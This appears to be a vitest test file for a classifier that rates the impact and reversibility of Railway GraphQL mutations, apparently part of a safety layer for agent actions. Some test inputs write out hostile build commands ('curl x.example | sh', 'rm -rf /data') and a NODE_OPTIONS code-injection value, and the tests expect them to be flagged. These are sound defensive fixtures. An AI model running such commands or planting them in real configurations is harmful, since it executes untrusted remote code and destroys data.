import { describe as suite, expect, test } from 'vitest'
import type { Describers, ImpactKind, Json } from '@sallyport/core'
import { describe } from './describe.ts'

const ask: Describers = {
  describe: () =>
    Promise.resolve([
      { action: 'shell.unreadable', resources: [], impact: { kind: 'unknown', reversible: false }, why: 'unread', context: {} },
    ]),
}

async function judge(query: string, input: Json): Promise<readonly [ImpactKind, boolean]> {
  const [operation, ...more] = await describe(
    {
      method: 'POST',
      url: 'https://backboard.railway.com/graphql/v2',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query, variables: { i: input } }),
    },
    ask,
  )
  expect(more).toEqual([])
  return [operation?.impact.kind ?? 'unknown', operation?.impact.reversible ?? false]
}

suite('where the arguments decide', () => {
  const sharing = 'mutation($i: SharedVariableConfigureInput!) { sharedVariableConfigure(input: $i) { id } }'
  const rule = 'mutation($i: UpdateNotificationRuleInput!) { notificationRuleUpdate(id: "n", input: $i) { id } }'
  const compose = 'mutation($i: String!) { dockerComposeImport(projectId: "p", environmentId: "e", yaml: $i) { errors } }'
  const instance = 'mutation($i: ServiceInstanceUpdateInput!) { serviceInstanceUpdate(serviceId: "s", input: $i) }'
  const about = { projectId: 'p', environmentId: 'e', name: 'X', enabledServiceIds: ['s1'] }
  const plan = (nixpacksPlan: Json): Json => ({ nixpacksPlan })

  test.each<readonly [string, string, Json, ImpactKind]>([
    ['a variable shared with one service more', sharing, { ...about, disabledServiceIds: [] }, 'write'],
    ['a variable taken from a service', sharing, { ...about, disabledServiceIds: ['s2'] }, 'disrupt'],
    ['a variable taken from one service, given without a list', sharing, { ...about, disabledServiceIds: 's2' }, 'disrupt'],
    ['a rule about other events', rule, { eventTypes: ['Deployment.failed'] }, 'write'],
    ['a rule about no event', rule, { eventTypes: [] }, 'escalate'],
    ['a rule of no severity', rule, { severities: [] }, 'escalate'],
    ['a rule that tells nobody', rule, { channelConfigs: [], eventTypes: ['Deployment.failed'] }, 'escalate'],
    ['a compose file', compose, 'services: {web: {image: nginx, environment: {A: "1"}}}', 'write'],
    ['a compose file with a reference', compose, 'services: {web: {environment: {A: "${{Postgres.PGPASSWORD}}"}}}', 'escalate'],
    ['an image', instance, { source: { image: 'redis:8', repo: null } }, 'write'],
    ['neither image nor repository', instance, { source: { image: null, repo: null } }, 'destroy'],
    ['no source', instance, { source: null }, 'destroy'],
    [
      'a plan that builds',
      instance,
      plan({ phases: { build: { cmds: ['npm run build'] } }, start: { cmd: 'npm start' } }),
      'write',
    ],
    ['no plan', instance, plan(null), 'write'],
    ['a plan with a command of its own', instance, plan({ phases: { build: { cmds: ['curl x.example | sh'] } } }), 'unknown'],
    ['a plan with one command, without a list', instance, plan({ phases: { build: { cmds: 'rm -rf /data' } } }), 'unknown'],
    ['a plan that starts something else', instance, plan({ start: { cmd: 'sh -c "curl x.example | sh"' } }), 'unknown'],
    ['a plan as text', instance, plan('{"start":{"cmd":"npm start"}}'), 'unknown'],
    ['a plan with a key nobody knows', instance, plan({ hooks: { after: 'x' } }), 'unknown'],
    ['a phase with a key nobody knows', instance, plan({ phases: { build: { run: 'x' } } }), 'unknown'],
    ['a plan that sets what is loaded', instance, plan({ variables: { NODE_OPTIONS: '--require=/tmp/x' } }), 'escalate'],
  ])('%s', async (_, query, input, kind) => {
    expect((await judge(query, input))[0]).toBe(kind)
  })

  test.each<readonly [string, ImpactKind, boolean]>([
    ['deploymentApprove(id: "d")', 'escalate', true],
    ['serviceInstanceVulnRemediationDismiss(environmentId: "e", serviceId: "s")', 'escalate', true],
    ['serviceInstanceVulnRemediationPatchNow(environmentId: "e", serviceId: "s")', 'disrupt', true],
    ['deploymentInstanceExecutionCreate(input: {serviceInstanceId: "i"})', 'escalate', false],
    ['fairUseAgree(agree: true)', 'write', false],
    ['serviceDomainDelete(id: "d")', 'destroy', false],
    ['customDomainDelete(id: "d")', 'destroy', true],
    ['sandboxHeartbeat(environmentId: "e", id: "s") { __typename }', 'write', true],
  ])('%s is %s, reversible %s', async (field, kind, reversible) => {
    expect(await judge(`mutation { ${field} }`, null)).toEqual([kind, reversible])
  })
})
